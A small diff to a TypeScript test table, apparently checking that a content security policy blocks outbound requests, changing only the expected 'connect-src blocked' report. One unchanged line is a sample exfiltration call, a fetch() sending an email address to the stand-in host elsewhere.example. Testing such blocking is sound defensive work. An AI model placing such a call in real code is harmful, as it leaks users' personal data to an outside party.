@@ -169,7 +169,7 @@ const reportedOf: [...Deed, report: string][] = [
     'to send what it sees elsewhere',
     'fetch("https://elsewhere.example/seen?email=jane.doe@example.com").catch(() => undefined)',
     'done',
-    'connect-src blocked=https://elsewhere.example/seen',
+    'connect-src blocked=https://elsewhere.example',
   ],
 ];
 
